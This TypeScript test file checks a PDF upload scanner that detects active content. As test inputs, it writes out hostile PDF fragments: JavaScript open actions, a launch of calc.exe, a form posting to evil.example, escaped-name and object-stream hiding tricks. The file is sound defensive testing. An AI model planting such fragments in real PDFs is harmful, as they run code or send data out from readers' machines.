import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { pdfActiveContent } from '../../src/server/security/pdf-active-content';
import { tinyPdf } from './uploads-sample-files';

// Pen-test round 2 (27-11-2026): a PDF with an /OpenAction JavaScript action was accepted as a FORMA. A stored PDF
// is kept as sent, so what it holds is checked: every way a name can be written, in the file and in its object
// streams, and no false alarm from an image's bytes.

/** An object stream holding `inside` (Flate-compressed), as PDF 1.5 writers pack dictionaries. */
function objectStream(inside: string, filter = true): string {
  const body = filter ? deflateSync(Buffer.from(inside, 'latin1')) : Buffer.from(inside, 'latin1');
  return `<< /Type /ObjStm /N 1 /First 4 /Length ${body.length}${filter ? ' /Filter /FlateDecode' : ''} >>\nstream\n${body.toString('latin1')}\nendstream`;
}

describe('active content in an uploaded PDF', () => {
  it('passes a plain scan', () => {
    expect(pdfActiveContent(tinyPdf())).toBe('plain');
  });

  it.each([
    ['an /OpenAction script', { catalog: '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>' }],
    ['a name written with # escapes', { catalog: '/Open#41ction << /S /J#61vaScript /JS (x) >>' }],
    ['a launch action', { catalog: '/OpenAction << /S /Launch /F (calc.exe) >>' }],
    ['an embedded file', { catalog: '/Names << /EmbeddedFiles 5 0 R >>', objects: ['<< /Names [] >>'] }],
    ['a form that posts', { objects: ['<< /S /SubmitForm /F (https://evil.example/) >>'] }],
    ['page actions', { objects: ['<< /Type /Page /AA << /O << /S /JavaScript /JS (x) >> >> >>'] }],
    [
      'a script hidden in a compressed object stream',
      { objects: [objectStream('5 0 << /S /JavaScript /JS (x) >>')] },
    ],
    [
      'a script in an uncompressed object stream',
      { objects: [objectStream('5 0 << /S /JavaScript /JS (x) >>', false)] },
    ],
  ])('refuses %s', (_what, extra) => {
    expect(pdfActiveContent(tinyPdf(extra))).toBe('active');
  });

  it("does not take an image's bytes for a name", () => {
    // Raw bytes that spell /AA and /JS, in a stream that is not an object stream (an image).
    const image = `<< /Type /XObject /Subtype /Image /Length 12 >>\nstream\n\x00/AA \x01/JS \xff\xd9\nendstream`;
    expect(pdfActiveContent(tinyPdf({ objects: [image] }))).toBe('plain');
  });

  it('refuses an object stream it cannot read', () => {
    expect(
      pdfActiveContent(
        tinyPdf({
          objects: [
            objectStream('not compressed at all', false).replace(
              '/Type /ObjStm',
              '/Type /ObjStm /Filter /FlateDecode',
            ),
          ],
        }),
      ),
    ).toBe('unreadable');
  });
});
